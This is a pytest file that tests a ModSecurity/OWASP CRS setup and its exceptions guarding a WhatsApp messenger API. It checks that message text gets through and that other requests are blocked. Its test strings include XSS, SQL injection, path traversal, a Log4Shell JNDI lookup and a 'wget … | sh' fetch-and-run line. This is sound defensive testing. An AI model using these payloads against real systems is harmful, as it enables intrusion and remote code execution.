# SPDX-License-Identifier: Apache-2.0
"""ModSecurity with the OWASP rules of Debian, and the exceptions in
conf/examples/modsecurity-crs.conf."""

import json
import pathlib

import pytest

from support.conditions import wait_until
from support.httpd import ROOT, Account, messenger

API = "/api/whatsapp-messenger"
RULES = pathlib.Path("/usr/share/modsecurity-crs/rules")
RECOMMENDED = pathlib.Path("/etc/modsecurity/modsecurity.conf-recommended")
EXCEPTIONS = ROOT / "conf" / "examples" / "modsecurity-crs.conf"

# What people write, and what each looks like to the rules.
TEXTS = [
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    "select name from friends where age > 30 union select 1",
    "post office\r\nat five",
    "get milk\nand bread",
    "look: ; cat /etc/passwd",
    "../../etc/passwd is the file",
    "${jndi:ldap://192.0.2.1/a} in the log",
    "<?php system('id');",
    "javascript:alert(1) they say",
    "http://192.0.2.1/photos.php?x=1",
    "wget http://192.0.2.1/y.sh | sh",
    "HTTP/1.1 200 OK\r\nSet-Cookie: a=b",
    "eval(base64_decode('x'))",
]
FORM = {"Content-Type": "application/x-www-form-urlencoded"}
JSON = {"Content-Type": "application/json"}


@pytest.fixture(scope="module")
def guarded(make_server, simulator):
    """Makes an httpd behind ModSecurity, with or without the exceptions."""

    def make(exceptions):
        def configure(httpd):
            for name in ("data", "tmp"):
                (httpd.directory / name).mkdir(exist_ok=True)
                (httpd.directory / name).chmod(0o777)
            text = RECOMMENDED.read_text(encoding="utf-8")
            for old, new in (
                ("SecRuleEngine DetectionOnly", "SecRuleEngine On"),
                ("SecTmpDir /tmp/", f"SecTmpDir {httpd.directory}/tmp"),
                ("SecDataDir /tmp/", f"SecDataDir {httpd.directory}/data"),
                ("/var/log/apache2/", f"{httpd.directory}/logs/"),
                ("SecUnicodeMapFile ", "SecUnicodeMapFile /etc/modsecurity/"),
            ):
                assert old in text
                text = text.replace(old, new)
            (httpd.directory / "modsecurity.conf").write_text(text, encoding="utf-8")
            # in the order of Debian's security2.conf: what is in /etc/modsecurity, then the rules
            return (
                messenger(
                    httpd.account,
                    httpd.directory / "store",
                    simulator.url,
                    extra="WhatsAppEnforceWindow off\n",
                )
                + f"Include {httpd.directory}/modsecurity.conf\n{exceptions}Include"
                f" /etc/modsecurity/crs/crs-setup.conf\nInclude {RULES}/*.conf\n"
            )

        httpd = make_server(configure, modules=["unique_id", "security2"], account=Account())
        httpd.claim("ModSecurity", "WA*", required=False)
        return httpd

    return make


@pytest.fixture(scope="module")
def excepted(guarded):
    with guarded(f"Include {EXCEPTIONS}\n") as httpd:
        yield httpd


@pytest.fixture
def api(excepted):
    return excepted.client(host="chat.example.org")


@pytest.mark.parametrize("text", TEXTS)
def test_texts_come_in_and_go_out(api, fresh, twilio, text):
    number = fresh.number()
    for field in ("Body", "ProfileName", "ButtonText", "NewInTwilio2027"):
        sid = fresh.sid()
        api.webhook({**api.account.inbound(number, "hello", sid), field: text})
        assert api.messages(number, limit=1)["messages"][0]["sid"] == sid
    assert [message["body"] for message in api.messages(number)["messages"]][2] == "hello"
    assert api.post("/send", {"phoneNumber": number, "message": text}).status == 200
    assert twilio.requests_to(number)
    contact = api.post(
        "/contacts",
        {"phoneNumber": number, "displayName": text.replace("\r\n", " ").replace("\n", " ")},
    ).json()["contact"]
    assert (
        api.patch(
            f"/contacts/{contact['id']}", {"displayName": "Ana <script>alert(1)</script>"}
        ).status
        == 200
    )
    assert api.delete(f"/contacts/{contact['id']}").status == 200


def test_media_and_templates_go_out(api, fresh, twilio):
    number = fresh.number()
    media = "https://media.example.org/photos.php?file=../../etc/passwd"
    assert (
        api.post("/send", {"phoneNumber": number, "message": "see", "mediaUrl": [media]}).status
        == 200
    )
    template = {
        "phoneNumber": number,
        "contentSid": "HX" + "0" * 32,
        "contentVariables": {"1": "<script>alert(1)</script>"},
    }
    assert api.post("/send", template).status == 200


def attack_form():
    return b"Body=%3Cscript%3Ealert(1)%3C/script%3E"


@pytest.mark.parametrize(
    "method, target, body, headers",
    [
        ("POST", "/", attack_form(), FORM),
        ("POST", "/wp-login.php", attack_form(), FORM),
        ("POST", f"{API}/webhook/../../../wp-login.php", attack_form(), FORM),
        ("POST", f"/x{API}/webhook", attack_form(), FORM),
        ("POST", f"{API}/webhook/x", attack_form(), FORM),
        ("POST", f"{API}/threads", attack_form(), FORM),
        ("PUT", f"{API}/webhook", attack_form(), FORM),
        ("GET", f"{API}/webhook?a=%3Cscript%3Ealert(1)%3C/script%3E", None, {}),
        ("POST", f"{API}/webhook", b"Body=a", {**FORM, "User-Agent": "<script>alert(1)</script>"}),
        ("POST", f"{API}/webhook", b"Body=a", {**FORM, "Cookie": "a=<script>alert(1)</script>"}),
        ("POST", f"{API}/webhook", b"%3Cscript%3Ealert(1)%3C/script%3E=a", FORM),
        (
            "POST",
            f"{API}/send",
            json.dumps({"phoneNumber": "<script>alert(1)</script>", "message": "a"}).encode(),
            JSON,
        ),
        (
            "POST",
            f"{API}/send",
            json.dumps({"displayName": "<script>alert(1)</script>"}).encode(),
            JSON,
        ),
        (
            "POST",
            f"{API}/contacts",
            json.dumps({"message": "<script>alert(1)</script>"}).encode(),
            JSON,
        ),
        ("GET", f"{API}/messages?counterpart=%3Cscript%3Ealert(1)%3C/script%3E", None, {}),
        ("DELETE", "/page", None, {}),
        ("PATCH", "/page", b"{}", JSON),
        ("DELETE", f"{API}/threads", None, {}),
        ("PATCH", f"{API}/send", b"{}", JSON),
        ("PUT", f"{API}/contacts/00000000-0000-4000-8000-000000000001", b"{}", JSON),
        ("DELETE", f"{API}/contacts/../../../page", None, {}),
    ],
)
def test_everything_else_stays_guarded(excepted, api, method, target, body, headers):
    mark = excepted.mark()
    answer = api.fetch(method, target, body, {"Accept": "*/*", "User-Agent": "test", **headers})
    assert answer.status == 403, answer
    assert excepted.wait_for_line(r"ModSecurity: Access denied", mark)


def test_the_audit_log_keeps_no_text(excepted, api, fresh):
    """It keeps the bodies of requests that are answered with an error, as these are."""
    text = fresh.text()
    api.webhook(
        api.account.inbound(fresh.number(), text, fresh.sid()), signature="AAAA", expect=403
    )
    assert api.post("/send", {"phoneNumber": "not a number", "message": text}).status == 400
    path = excepted.directory / "logs" / "modsec_audit.log"

    def whole_log():
        # written after the answer: complete when each entry has its end
        log = path.read_text(encoding="utf-8", errors="replace") if path.exists() else ""
        is_whole = log.count("-A--") == log.count("-Z--")
        return (
            log if is_whole and f"POST {API}/webhook" in log and f"POST {API}/send" in log else None
        )

    log = wait_until(whole_log, "both requests in the audit log")
    assert text.split()[0] not in log


def test_without_the_exceptions_the_rules_refuse_it(guarded, fresh):
    """What the file is for."""
    with guarded("") as httpd:
        api = httpd.client(host="chat.example.org")
        assert (
            api.fetch("DELETE", f"{API}/contacts/00000000-0000-4000-8000-000000000001").status
            == 403
        )
        for path, body, headers in (
            ("/webhook", attack_form(), FORM),
            ("/send", json.dumps({"message": TEXTS[0]}).encode(), JSON),
        ):
            mark = httpd.mark()
            assert api.fetch("POST", API + path, body, headers).status == 403
            assert httpd.wait_for_line(r"ModSecurity: Access denied", mark)
